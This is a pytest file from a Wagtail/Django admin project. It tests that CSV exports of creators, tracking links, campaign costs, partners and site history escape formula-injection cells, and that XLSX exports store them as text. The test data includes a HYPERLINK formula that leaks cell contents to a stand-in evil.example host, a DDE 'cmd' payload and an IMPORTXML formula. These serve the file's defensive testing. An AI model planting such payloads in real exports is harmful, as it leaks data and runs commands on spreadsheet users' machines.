"""Every CSV the Wagtail admin offers escapes cells that a spreadsheet would run as formulas
(= + - @, tab, carriage return): the snippet exports (creators, tracking links, campaign costs,
partners) and Wagtail's own site-history report. Numbers and dates are written as they are;
XLSX exports are unchanged (openpyxl stores formula-looking cells as text)."""

import csv
import io

import pytest
from allauth.mfa.models import Authenticator
from django.contrib.auth import get_user_model
from openpyxl import load_workbook
from wagtail.log_actions import log
from wagtail.models import ModelLogEntry

from tests.factories.campaigns import (
    CampaignCostFactory,
    CampaignPageFactory,
    CreatorFactory,
    TrackingLinkFactory,
)
from tests.factories.passes import PartnerFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def admin_client(client, demo_site):
    user = get_user_model().objects.create_superuser(
        email="csv-admin@example.jp", password="x-secret-42"
    )
    # Staff who see personal data have a second factor (issue 15); this one has set it up.
    Authenticator.objects.get_or_create(
        user=user, type=Authenticator.Type.TOTP, defaults={"data": {"secret": "JBSWY3DPEHPK3PXP"}}
    )
    client.force_login(user)
    return client


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def cells(rows):
    return [cell for row in rows[1:] for cell in row]


def assert_no_formula(rows):
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for cell in cells(rows) if cell.startswith(starts)]


def test_creator_export_escapes_the_name_and_the_at_handle(admin_client):
    CreatorFactory(name=EVIL, handle="@tomakomai_umi")
    rows = csv_rows(admin_client.get("/admin/snippets/campaigns/creator/?export=csv"))
    assert "'" + EVIL in cells(rows)
    assert "'@tomakomai_umi" in cells(rows)
    assert_no_formula(rows)


def test_tracking_link_export_escapes_the_note_and_the_creator(admin_client):
    TrackingLinkFactory(
        code="t-evil",
        note="+cmd|' /C calc'!A0",
        creator=CreatorFactory(name="-2+3"),
        campaign=CampaignPageFactory(title="@SUM(1+1)"),
    )
    rows = csv_rows(admin_client.get("/admin/snippets/campaigns/trackinglink/?export=csv"))
    row = next(row for row in rows if "t-evil" in row)
    assert "'+cmd|' /C calc'!A0" in row
    assert any(cell.startswith("'-2+3") for cell in row)  # the creator, with its handle
    assert "'@SUM(1+1)" in row
    assert_no_formula(rows)


def test_campaign_cost_export_escapes_text_and_keeps_the_amount(admin_client):
    CampaignCostFactory(
        amount=50000,
        description=EVIL,
        campaign=CampaignPageFactory(title="冬のキャンペーン"),
    )
    rows = csv_rows(admin_client.get("/admin/snippets/campaigns/campaigncost/?export=csv"))
    row = next(row for row in rows if "'" + EVIL in row)
    assert "50000" in row
    assert "冬のキャンペーン" in row
    assert_no_formula(rows)


def test_partner_export_escapes_the_name_and_keeps_plain_text(admin_client):
    PartnerFactory(name="=1+1", address="苫小牧市表町1-1", phone="0144-32-6111")
    rows = csv_rows(admin_client.get("/admin/snippets/passes/partner/?export=csv"))
    row = next(row for row in rows if "'=1+1" in row)
    assert "苫小牧市表町1-1" in row
    assert "0144-32-6111" in row
    assert_no_formula(rows)


def test_site_history_report_escapes_a_logged_title_and_keeps_the_date(admin_client):
    creator = CreatorFactory(name="海の発信者")
    log(instance=creator, action="wagtail.edit", title="=IMPORTXML(A1)")
    entry = ModelLogEntry.objects.get(label="=IMPORTXML(A1)")
    rows = csv_rows(admin_client.get("/admin/reports/site-history/?export=csv"))
    assert "'=IMPORTXML(A1)" in cells(rows)
    assert_no_formula(rows)
    # The date/time column is written as Wagtail writes it, not escaped.
    row = next(row for row in rows if "'=IMPORTXML(A1)" in row)
    assert str(entry.timestamp) in row


def test_xlsx_export_is_unchanged(admin_client):
    CreatorFactory(name=EVIL, handle="@tomakomai_umi")
    response = admin_client.get("/admin/snippets/campaigns/creator/?export=xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
    # XLSX cells are typed: the text is stored as text, as typed (no apostrophe added).
    assert EVIL in values
    assert "@tomakomai_umi" in values
    assert "'" + EVIL not in values
    # ... and as a string cell, not a formula that Excel would run.
    evil_cell = next(
        cell for row in workbook.active.iter_rows() for cell in row if cell.value == EVIL
    )
    assert evil_cell.data_type == "s"
